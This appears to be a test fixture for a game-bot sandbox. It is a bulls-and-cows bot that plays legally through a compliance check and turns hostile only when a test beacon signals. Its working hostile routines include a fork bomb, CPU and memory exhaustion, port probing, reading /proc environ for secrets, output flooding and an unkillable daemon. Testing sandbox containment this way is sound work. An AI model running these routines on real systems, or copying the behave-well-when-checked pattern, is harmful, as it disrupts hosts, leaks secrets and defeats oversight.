#!/usr/bin/env python3
# Hostile, but only on the ladder: it passes the compliance check by playing legal games, and
# turns hostile (ACTION) when it sees the signal of the test's beacon bot (beacon.py): the
# opponent's first six guesses got the same response (the beacon guesses one code six
# times; a consistent guesser such as the check's `random` does so in about 1 game in
# 10 000). Every process of it carries MARKER on its command line (it runs itself again with
# MARKER as its argument), so the test can scan /proc for anything of it left behind.
# ACTION: fork_bomb, burner, hog, net_probe, spy, sleeper, flood, orphan.
import itertools
import os
import socket
import sys
import time

ACTION = "@ACTION@"
MARKER = "@MARKER@"
TARGETS = ["@TARGETS@"]
PATHS = ["@PATHS@"]
SECRET_WORD = "@SECRET_WORD@"

if MARKER not in sys.argv:
    os.execv(sys.executable, [sys.executable, os.path.abspath(__file__), MARKER])


def score(secret, guess):
    bulls = sum(a == b for a, b in zip(secret, guess))
    return bulls, len(set(secret) & set(guess)) - bulls


def fork_bomb():
    import signal
    while True:  # every child forks on too, until a fork fails: then each waits
        try:
            os.fork()
        except OSError:
            signal.pause()


def burner():
    for _ in range(3):
        if os.fork() == 0:
            while True:
                pass
    while True:
        os.wait()


def hog():
    block = bytearray(4 << 30)
    return f"0123 {len(block)}"


def net_probe():
    opened = 0
    for target in TARGETS:
        host, port = target.rsplit(":", 1)
        try:
            with socket.create_connection((host, int(port)), timeout=0.5):
                result = "OPEN"
                opened += 1
        except OSError as exc:
            result = f"closed ({exc.__class__.__name__})"
        print(f"probe {target} tcp {result}", file=sys.stderr, flush=True)
    return f"net opened {opened}"


def read(path):
    try:
        if os.path.isdir(path):
            return " ".join(os.listdir(path)).encode()
        with open(path, "rb") as f:
            return f.read(1 << 20)
    except OSError:
        return None


def spy():
    seen = 0
    for path in PATHS:
        blob = read(path)
        print(("no " if blob is None else "read ") + path, file=sys.stderr, flush=True)
        seen += blob is not None
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for what in ("cmdline", "environ"):
            blob = read(f"/proc/{pid}/{what}") or b""
            seen += SECRET_WORD.encode() in blob
    print("pids " + " ".join(sorted(pids, key=int)), file=sys.stderr, flush=True)
    return f"seen {seen}"


def sleeper():
    while True:
        time.sleep(3600)


def flood():
    line = b"# flood flood flood flood flood flood flood flood flood flood\n"
    for _ in range(100_000_000 // len(line)):
        sys.stdout.buffer.write(line)
    sys.stdout.flush()


def orphan():
    # a daemon (double fork, new session, deaf to SIGHUP and SIGTERM), then back to playing
    import signal
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.closerange(0, 3)
            while True:
                signal.pause()
        os._exit(0)
    os.wait()


def main():
    left: list[str] = []
    mine: list[str] = []
    theirs: list[tuple[int, int]] = []
    hostile_done = False
    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        if words[0] == "moo":
            print("ready turncoat-" + ACTION, flush=True)
        elif words[0] == "new":
            if left:  # a second game in one process: the exact evaluation, which the test
                return  # does not need (it would hold the worker's only slot for minutes)
            length, alphabet = int(words[1]), words[2]
            left = ["".join(p) for p in itertools.permutations(alphabet, length)]
            mine, theirs = [], []
        elif words[0] == "guess":
            signal_seen = (len(theirs) >= 6 and len(set(theirs[:6])) == 1
                           and theirs[0][0] < 4)
            if signal_seen and not hostile_done:
                hostile_done = True
                answer = globals()[ACTION]()
                if answer is not None:
                    print(answer, flush=True)
                    continue
            if len(mine) < 6:
                # the same first guess six times, so that it is still playing when the
                # signal has been seen
                print(mine[0] if mine else left[len(left) // 2], flush=True)
            else:
                print(left[0], flush=True)
        elif words[0] == "result":
            guess, bulls, cows = words[1], int(words[2]), int(words[3])
            mine.append(guess)
            left = [c for c in left if score(c, guess) == (bulls, cows)]
        elif words[0] == "opponent" and len(words) == 4:
            theirs.append((int(words[2]), int(words[3])))
        elif words[0] == "quit":
            return


main()
